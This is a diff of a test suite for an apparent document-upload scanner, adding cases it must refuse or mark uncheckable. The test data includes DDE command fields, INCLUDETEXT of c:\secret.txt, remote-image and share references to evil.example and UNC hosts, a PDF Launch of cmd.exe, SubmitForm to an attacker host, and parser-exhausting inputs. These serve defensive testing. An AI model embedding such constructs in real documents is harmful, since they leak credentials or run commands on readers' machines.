@@ -1,13 +1,11 @@
 import { deflateSync } from 'node:zlib';
-import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { documentKinds } from './document-kinds.ts';
 import { documents, makeOle, makeOpenDocument, makeOpenXml } from './testing/make-documents.ts';
-import { makePdf, makePowerPoint } from './testing/make-programs.ts';
+import { makePdf, makePowerPoint, makeWord } from './testing/make-programs.ts';
+import { findingOf } from './testing/finding-of.ts';
 import { makeZip } from './testing/make-zip.ts';
 import type { ZipEntry } from './testing/make-zip.ts';
 
-const findingOf = (extension: string, bytes: Buffer) => documentKinds[extension]?.inspect(bytes);
 const media = 'application/vnd.openxmlformats-officedocument';
 const docx = (...more: ZipEntry[]) => makeOpenXml(`${media}.wordprocessingml.document`, 'word/document.xml', more);
 const odp = (...more: ZipEntry[]) => makeOpenDocument('application/vnd.oasis.opendocument.presentation', more);
@@ -53,6 +51,19 @@ describe('a .docx', () => {
     ],
     ['a DDE field in UTF-16', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE c"/>', 'utf16le'))],
     ['a click that starts a program', part('<a:hlinkClick action="ppaction://program"/>')],
+    ['a picture of a share', relation('image', '\\\\host\\a.png')],
+    ['a picture of a share by its codes', relation('image', 'file:%5c%5chost%5ca.png')],
+    ['a picture of a page, which tells who reads', relation('image', 'https://evil.example/a.png')],
+    ['a film of a share', relation('video', 'file://host/a.mp4')],
+    ['a drawn picture that names its source', part('<v:imagedata src="//host/a.png"/>')],
+    ['a text to be taken in', part('<w:fldSimple w:instr="INCLUDETEXT c:\\secret.txt"/>')],
+    ['a picture to be fetched by a field', part('<w:fldSimple w:instr=" includepicture &quot;http://evil/a&quot;"/>')],
+    [
+      'a field whose name other fields put together',
+      part(
+        '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldSimple w:instr="QUOTE 68 69"/><w:fldChar w:fldCharType="separate"/>',
+      ),
+    ],
     ['a workbook with programs', part(makeZip([part('<ddeLink/>', 'xl/x.xml')]), 'word/embeddings/x.xlsx')],
     ['a workbook that is none', part('PK', 'word/embeddings/x.xlsx')],
   ])('with %s is refused', async (_what, entry) => {
@@ -62,7 +73,14 @@ describe('a .docx', () => {
   test.each([
     ['a template of the computer it was made on', relation('attachedTemplate', 'file:///C:\\Users\\Zo%C3%A9\\CV.dotx')],
     ['a link', relation('hyperlink', 'https://www.example.org/dde')],
-    ['a picture that is elsewhere', relation('image', 'https://www.example.org/logo.png')],
+    ['a picture of the computer it was made on', relation('image', 'file:///C:\\Users\\Zo%C3%A9\\logo.png')],
+    ['a film of a page', relation('video', 'https://www.example.org/embed/x')],
+    [
+      'a page number in a table of contents, and the picture of an e-mail',
+      part(
+        '<w:fldChar w:fldCharType="begin"/><w:instrText>TOC \\o </w:instrText><w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "cid:image001.png@01" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>',
+      ),
+    ],
     ['a chart with its figures', part(makeZip([part('<workbook/>', 'xl/workbook.xml')]), 'word/embeddings/x.xlsx')],
     ['a picture', part('\u0089PNG', 'word/media/image1.png')],
     [
@@ -83,6 +101,9 @@ describe('a .docx', () => {
     ['in an encoding of its own', part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
     ['with words of its own', part('<!DOCTYPE x [<!ENTITY d "DDE">]><x/>')],
     ['larger than can be read', part(`<x>${' '.repeat(9 * 1024 * 1024)}</x>`)],
+    ['nested without end', part('<x>'.repeat(10_000))],
+    ['of countless elements', part(`<x>${'<y/>'.repeat(400_000)}</x>`)],
+    ['that is no text in its encoding', part(Buffer.from('<x a="\xe9"/>', 'latin1'))],
   ])('with a part %s cannot be checked', async (_what, entry) => {
     expect(await findingOf('docx', docx(entry))).toBe('locked');
   });
@@ -96,6 +117,7 @@ describe('an OpenDocument', () => {
     ['an object', '<draw:object-ole/>'],
     ['a DDE connection', '<text:dde-connection-decl/>'],
     ['a template from elsewhere', '<meta:template xlink:href="https://evil.example/t.ott"/>'],
+    ['a picture from elsewhere', '<draw:image xlink:href="http://evil.example/a.png"/>'],
     ['a section from elsewhere', '<text:section-source xlink:href="//server/x.odt"/>'],
   ])('with %s is refused', async (_what, text) => {
     expect(await findingOf('odp', odp(styles(text)))).toBe('programs');
@@ -116,6 +138,10 @@ describe('a PDF', () => {
     ['a script under an escaped name', makePdf('<</S/J#61vaScript>>')],
     ['a script behind a comment and a string', makePdf('<</A(\\)>>)%>>\n/B[<6A> <</JS 5 0 R>>]>>')],
     ['a start of a program', makePdf('<</S/Launch/F(cmd.exe)>>')],
+    ['data to be taken in', makePdf('<</S/ImportData/F(x.fdf)>>')],
+    ['a form that is sent', makePdf('<</S/SubmitForm/F(https://evil.example)>>')],
+    ['another file to be opened', makePdf('<</S/GoToR/F(\\\\\\\\host\\\\x.pdf)>>')],
+    ['an attached file to be opened', makePdf('<</S/GoToE>>')],
     ['an attached file', makePdf('<</EF<</F 5 0 R>>/F(cv.exe)>>')],
     ['an attached file of two names', makePdf('<</EF<</F 5 0 R>>/F(cv.xml)/F(cv.hta)>>')],
     ['an attached file whose name is elsewhere', makePdf('<</EF<</F 5 0 R>>/F 6 0 R>>')],
@@ -148,6 +174,13 @@ describe('a PDF', () => {
     ['packs objects as nobody does', packed('<<>>', '/DecodeParms<</Predictor 12>>')],
     ['unpacks to more than four megabytes', packed(' '.repeat(5 * 1024 * 1024))],
     ['would be read for ever', makePdf('obj (('.repeat(100_000))],
+    ['holds countless values', makePdf(`[${'1 '.repeat(200_000)}]`)],
+    ['holds countless objects', makePdf('obj<<>>'.repeat(100_000))],
+    ['holds countless objects in a stream', packed(`[${'<</A/B>>'.repeat(100_000)}]`)],
+    [
+      'lists countless objects of a stream',
+      makePdf('<</First 800000/Filter/FlateDecode>>stream\n', deflateSync('1 '.repeat(400_000))),
+    ],
     ['is nested without end', makePdf('<</A'.repeat(10_000), 'obj<</A'.repeat(10_000))],
   ])('that %s cannot be checked', async (_what, bytes) => {
     expect(await findingOf('pdf', bytes)).toBe('locked');
@@ -161,6 +194,11 @@ describe('an .rtf', () => {
     ['a DDE field', '{\\field{\\*\\fldinst {\\b DD}{E\\u65?\\\'55TO} "cmd"}}'],
     ['a template from elsewhere', '{\\*\\template https://evil.example/t.dot}'],
     ['a template of a share', '{\\*\\template \\\\\\\\server\\\\t.dot}'],
+    ['a text to be taken in', '{\\field{\\*\\fldinst INCLUDETEXT "c:\\\\secret"}}'],
+    ['a picture of a share', '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\host\\\\a.png" \\\\d}}'],
+    ['a picture of a page', '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a"}}'],
+    ['a shape that shows a share', '{\\sp{\\sn pibName}{\\sv \\\\\\\\host\\\\a.png}}'],
+    ['a field whose name another puts together', '{\\field{\\*\\fldinst D{\\field{\\*\\fldinst QUOTE 68 69}} "cmd"}}'],
   ])('with %s is refused', async (_what, text) => {
     expect(await findingOf('rtf', rtf(text))).toBe('programs');
   });
@@ -168,6 +206,7 @@ describe('an .rtf', () => {
   test.each([
     ['a template of its computer', '{\\*\\template C:\\\\Users\\\\Zo\\u233?\\\\Normal.dotm}'],
     ['a link', '{\\field{\\*\\fldinst HYPERLINK "https://www.example.org/dde"}}'],
+    ['a picture that was copied from a page', '{\\sp{\\sn pibName}{\\sv https://www.example.org/a.png}}'],
     ['what Word writes anyway', '{\\*\\datastore 0105000002000000}'],
   ])('with %s is taken', async (_what, text) => {
     expect(await findingOf('rtf', rtf(text))).toBe('genuine');
@@ -186,44 +225,43 @@ describe('a document of Word or PowerPoint up to 2003', () => {
     expect(await findingOf('doc', bytes)).toBe('programs');
   });
 
-  test('on whose slides an object lies is refused, and so are its macros', async () => {
-    expect(await findingOf('ppt', makePowerPoint([0x0fcc]))).toBe('programs');
-    expect(await findingOf('ppt', makePowerPoint([0x03ff]))).toBe('macros');
-    expect(await findingOf('ppt', makePowerPoint([0x03ee]))).toBe('genuine');
+  test.each([
+    ['a DDE field in pieces', makeWord(['x\u0013 DD', 'EAUTO cmd'])],
+    ['a DDE field whose name another puts together', makeWord(['\u0013D', '\u0013QUOTE 68 69\u0015 cmd'])],
+    ['a template of a share', makeWord(['x'], '\\\\host\\t.dot')],
+    ['a template of a page', makeWord(['x'], 'https://evil.example/t.dot')],
+    ['a picture of a share', makeWord(['\u0013INCLUDEPICTURE "\\\\\\\\host\\\\a.png"'])],
+  ])('with %s is refused, as its tables put it together', async (_what, bytes) => {
+    expect(await findingOf('doc', bytes)).toBe('programs');
+  });
+
+  test('with a table of contents and a template of its computer is taken', async () => {
+    const contents = makeWord(['\u0013 TOC \\o\u0014\u0013PAGEREF x\u00152\u0015', ' DDE'], 'C:\\Modèles\\CV.dot');
+    expect(await findingOf('doc', contents)).toBe('genuine');
+  });
+
+  test('on whose slides an object lies is refused, wherever, and so are its macros', async () => {
+    expect(await findingOf('ppt', makePowerPoint('0f00cc0f'))).toBe('programs');
+    expect(await findingOf('ppt', makePowerPoint('000000', '0f00ee0f'))).toBe('programs');
+    expect(await findingOf('ppt', makePowerPoint('0f00ff03'))).toBe('macros');
+    expect(await findingOf('ppt', makePowerPoint('0f00ee03'))).toBe('genuine');
+  });
+
+  test('whose slides are missing, broken or none cannot be checked', async () => {
+    const cut = Buffer.from(makePowerPoint());
+    const circle = Buffer.from(makePowerPoint());
+    circle.writeUInt32LE(2, 512 + 4 * 9);
+    const names = ['PowerPoint Document'];
+    const files = [
+      makeOle(names),
+      cut.subarray(0, -512),
+      circle,
+      makeOle(names, { [names.join('')]: Buffer.from('x') }),
+    ];
+    for (const bytes of files) expect(await findingOf('ppt', bytes)).toBe('locked');
   });
 
   test('that is encrypted cannot be checked', async () => {
     expect(await findingOf('doc', makeOle(['EncryptedPackage']))).toBe('locked');
   });
-});
-
-test('whatever a PDF or RTF is made of, something is said of it', async () => {
-  const pdf = [
-    'obj',
-    '<<',
-    '>>',
-    '/EF',
-    '/F',
-    '(',
-    ')',
-    '\\',
-    '<6',
-    '>',
-    '[',
-    ']',
-    'stream\n',
-    '%',
-    '\n',
-    '/First 2',
-    'x\0',
-  ];
-  const rtf = ['{', '}', '\\fldinst ', "\\'4", '\\u-9 ', '\\\\', '\\', 'DDE', '\\template', '\r\n'];
-  for (const [extension, words] of Object.entries({ pdf, rtf })) {
-    await fc.assert(
-      fc.asyncProperty(fc.array(fc.constantFrom(...words)), async (soup) => {
-        const bytes = Buffer.from(`%PDF-1.7 ${soup.join('')}`);
-        expect(['genuine', 'programs', 'locked']).toContain(await findingOf(extension, bytes));
-      }),
-    );
-  }
 });
